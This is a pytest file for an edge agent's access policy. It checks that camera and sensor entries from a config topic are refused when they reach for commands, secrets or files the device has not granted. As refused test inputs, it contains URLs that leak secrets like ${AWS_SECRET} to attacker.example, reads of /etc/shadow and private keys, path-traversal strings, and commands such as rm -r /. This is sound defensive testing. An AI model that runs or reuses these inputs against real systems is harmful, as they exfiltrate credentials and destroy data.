"""Tests of the agent's policy: the rights that entries of the config topic have on a device."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from edge_agent import policy as policies
from edge_agent.desired import DesiredConfiguration
from edge_agent.lastgood import LastGood, SavedConfiguration
from edge_agent.policy import AgentPolicy, Rights, load_policy
from ingest.exceptions import ConfigError
from ingest.kafka.memorylog import MemoryLog
from ingest.site import CameraConfig, ConfigEntry, DetectorConfig, RedactConfig, SensorConfig, Site, StreamConfig
from ingest.site.topic.store import ConfigReader, publish
from ingest.site.topic.view import ConfigView

RTSP = "rtsp://10.0.0.5/live"


def camera(source: str, **more: Any) -> CameraConfig:
    return CameraConfig(name="gate", source=source, site="north", **more)


def login(source: str = RTSP, file: str = "gate.password", **more: Any) -> CameraConfig:
    return camera(source, stream=StreamConfig(user="admin", password_file=Path(file), **more))


def sensor(source: str, **options: Any) -> SensorConfig:
    return SensorConfig(name="pump", source=source, quantity="q", unit="1", site="north", options=options)


def with_model(model: str) -> CameraConfig:
    return camera(RTSP, redact=RedactConfig(faces=DetectorConfig(model=model)))


def local(entry: ConfigEntry, policy: AgentPolicy | None = None, *site: ConfigEntry) -> ConfigEntry:
    cameras = tuple(e for e in site if isinstance(e, CameraConfig))
    sensors = tuple(e for e in site if isinstance(e, SensorConfig))
    return Rights(policy or AgentPolicy(), Site(name="north", cameras=cameras, sensors=sensors)).local(entry)


@pytest.mark.parametrize(
    ("entry", "remedy"),
    [
        (sensor("command:pump", argv=("touch", "/tmp/owned")), 'pump = ["PROGRAM", "ARGUMENT"] under [commands]'),
        (sensor("command:pump"), 'pump = ["PROGRAM", "ARGUMENT"] under [commands]'),
        (login("http://attacker.example/", "/etc/shadow"), '"shadow" = ["attacker.example"] under [secrets]'),
        (login(), '"gate.password" = ["10.0.0.5"] under [secrets]'),
        (camera("http://attacker.example/?${AWS_SECRET}"), '"AWS_SECRET" = ["attacker.example"]'),
        (camera("http://${AWS_SECRET}:x@attacker.example/".replace(":x", ":")), "under [secrets]"),
        (camera("/var/log/auth.log"), '"/var/log" in folders'),
        (camera("concat:/etc/passwd"), "in folders"),
        (camera("images:/home/me"), "in folders"),
        (camera("simulated:road"), '"simulated" in sources'),
        (with_model("/etc/ssl/private/key.pem"), "in folders"),
        (sensor("serial:/etc/shadow"), '"/etc" in folders'),
        (sensor("modbus:/dev/../etc/shadow", address=0), "in folders"),
        (sensor("mqtt:a", host="attacker.example", username="u", password_file="/etc/shadow"), "under [secrets]"),
    ],
)
def test_config_topic_entries_may_use_no_command_secret_or_file_by_default(entry: ConfigEntry, remedy: str) -> None:
    with pytest.raises(ConfigError, match=r"^config topic, (camera/gate|sensor/pump): .* in agent\.toml$") as refused:
        local(entry)
    assert remedy in str(refused.value)


@pytest.mark.parametrize(
    "entry",
    [
        camera(RTSP),
        camera("https://camera.example/snap"),
        camera("device:0"),
        sensor("mqtt:plant/#", host="10.0.0.9"),
        sensor("modbus:[fd00::7]:502", address=4),
        sensor("serial:/dev/ttyUSB0"),
        sensor("host:cpu"),
    ],
)
def test_cameras_and_devices_in_the_config_topic_need_no_permission_by_default(entry: ConfigEntry) -> None:
    assert local(entry) == entry


def test_entries_that_the_agent_policy_allows_are_accepted_and_their_files_resolved_to_local_paths(
    tmp_path: Path,
) -> None:
    policy = AgentPolicy(
        sources=("rtsp", "file", "mqtt"),
        hosts=("10.0.0.0/24", "*.plant.example"),
        folders=(tmp_path,),
        commands={"pump": ("read-pump", "--json")},
        secrets={
            "gate.password": ("10.0.0.0/24",),
            "broker.password": ("broker.plant.example",),
            "PIN": ("10.0.0.5",),
        },
        secrets_folder=tmp_path / "secrets",
    )
    resolved = local(login(), policy)
    assert isinstance(resolved, CameraConfig)
    assert resolved.stream.password_file == tmp_path / "secrets" / "gate.password"
    command = local(sensor("command:pump", format="csv"), policy)
    assert isinstance(command, SensorConfig)
    assert command.options == {"format": "csv", "argv": ("read-pump", "--json")}
    mqtt = local(sensor("mqtt:a", host="broker.plant.example", username="u", password_file="broker.password"), policy)
    assert isinstance(mqtt, SensorConfig)
    assert mqtt.options["password_file"] == str(tmp_path / "secrets" / "broker.password")
    for allowed in (camera(f"{tmp_path}/a.mp4"), camera(RTSP + "?pin=${PIN}"), with_model(f"{tmp_path}/faces.onnx")):
        assert local(allowed, policy) == allowed
    for refused in (
        login("rtsp://10.0.1.5/live"),  # another network
        login("rtsp://broker.plant.example/live"),  # an allowed host, but not for this secret
        login(file="../gate.password"),
        login(file=".."),
        camera("rtsp://10.0.0.6/?pin=${PIN}"),
        camera("https://10.0.0.5/"),
        camera(f"{tmp_path}/../a.mp4"),
        sensor("command:pump", argv=("rm", "-r", "/")),
        sensor("command:other"),
    ):
        with pytest.raises(ConfigError):
            local(refused, policy)


def test_a_camera_of_the_config_topic_with_a_secret_in_the_host_of_its_url_is_refused() -> None:
    policy = AgentPolicy(secrets={"KEY": ("*",)})
    with pytest.raises(ConfigError, match="expected a host name or IP address"):
        local(camera("http://${KEY}.attacker.example/"), policy)


def test_a_symbolic_link_out_of_a_folder_that_the_policy_allows_is_refused(tmp_path: Path) -> None:
    (tmp_path / "videos").mkdir()
    (tmp_path / "videos" / "out").symlink_to(tmp_path)
    with pytest.raises(ConfigError, match="folders"):
        local(camera(f"{tmp_path}/videos/out/secret.mp4"), AgentPolicy(folders=(tmp_path / "videos",)))


def test_a_config_topic_entry_may_use_a_secret_or_command_only_as_the_site_file_does() -> None:
    owned = login("rtsps://cam.example/live", "/etc/sightline/gate.password")
    command = sensor("command:pump", argv=("read-pump",))
    assert local(owned, None, owned) == owned
    assert local(owned.model_copy(update={"fps": 3.0}), None, owned).name == "gate"
    assert local(command.model_copy(update={"name": "other"}), None, command).name == "other"
    for changed in (
        login("rtsps://attacker.example/live", "/etc/sightline/gate.password"),
        login("rtsp://cam.example/live", "/etc/sightline/gate.password"),  # without TLS
        login("rtsps://cam.example/live", "/etc/sightline/gate.password", verify=False),
        login("rtsps://cam.example/live", "/etc/sightline/other.password"),
        sensor("command:pump", argv=("read-pump", "--firmware=/tmp/mine")),
    ):
        with pytest.raises(ConfigError):
            local(changed, None, owned, command)


def test_a_config_topic_entry_cannot_weaken_the_tls_of_a_camera_in_the_site_file() -> None:
    owned = login("https://cam.example/live", "/etc/sightline/gate.password")
    assert local(owned, None, owned) == owned
    with pytest.raises(ConfigError):
        local(login("https://cam.example/live", "/etc/sightline/gate.password", tls="legacy"), None, owned)


async def test_a_config_topic_entry_that_the_agent_policy_does_not_allow_is_reported_and_does_not_run(
    tmp_path: Path,
) -> None:
    kept = camera(RTSP)
    desired = DesiredConfiguration(Site(name="north"), LastGood(tmp_path / "config.json"))
    view, log = ConfigView(desired.entries, desired.validate), MemoryLog()
    reader = ConfigReader(log, view)
    elsewhere = sensor("command:pump", argv=("id",)).model_copy(update={"name": "far", "site": "south"})
    await publish(log, [kept, elsewhere])
    await reader.catch_up()
    desired.apply(view)
    await publish(log, [login("http://attacker.example/", "/etc/shadow"), sensor("command:pump", argv=("id",))])
    await reader.catch_up()
    desired.apply(view)
    assert (desired.running.cameras, desired.running.sensors) == (
        (kept,),
        (),
    )  # the camera of the last good configuration keeps running
    assert [reason[:26] for reason in desired.refused] == ["config topic, camera/gate:", "config topic, sensor/pump:"]


def test_a_saved_sensor_whose_command_the_agent_policy_does_not_allow_does_not_run_after_a_restart(
    tmp_path: Path,
) -> None:
    saved, command = LastGood(tmp_path / "config.json"), sensor("command:pump", argv=("id",))
    saved.save(SavedConfiguration({command.key: command}, topic_holds=True))
    desired = DesiredConfiguration(Site(name="north"), saved)
    assert desired.running.sensors == ()
    assert "[commands]" in desired.refused[0]


def test_the_agent_policy_is_read_from_the_folder_of_the_site_file(tmp_path: Path) -> None:
    site = tmp_path / "site.toml"
    assert load_policy(site) == AgentPolicy()
    (tmp_path / "agent.toml").write_text('[commands]\npump = ["read-pump"]\n')
    (tmp_path / "agent.toml").chmod(0o644)
    assert load_policy(site).commands == {"pump": ("read-pump",)}


@pytest.mark.parametrize(
    ("text", "mode", "message"),
    [
        ("", 0o666, "mode = '0666': expected no write access for others"),
        ("", 0o664, "mode = '0664': expected no write access for others"),
        ("commands = 3", 0o600, "commands = 3: expected"),
        ("command = 3", 0o600, "command = 3: expected a known key"),
        ("=", 0o600, "expected valid TOML"),
        ("[commands]\npump = []", 0o600, "commands.pump"),
    ],
)
def test_a_policy_file_that_is_invalid_or_writable_by_others_is_refused(
    tmp_path: Path, text: str, mode: int, message: str
) -> None:
    file = tmp_path / "agent.toml"
    file.write_text(text)
    file.chmod(mode)
    with pytest.raises(ConfigError) as refused:
        load_policy(tmp_path / "site.toml")
    assert message in str(refused.value)
    assert "\n" not in str(refused.value)


def test_a_policy_file_that_is_missing_or_owned_by_another_user_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = tmp_path / "mine.toml"
    with pytest.raises(ConfigError, match=r"--policy .*: expected an existing TOML file"):
        load_policy(tmp_path / "site.toml", file)
    file.touch(0o600)
    owner = file.stat().st_uid
    monkeypatch.setattr(policies.os, "geteuid", lambda: owner + 1)
    if owner:
        with pytest.raises(ConfigError, match="expected root or the agent's user"):
            load_policy(tmp_path / "site.toml", file)
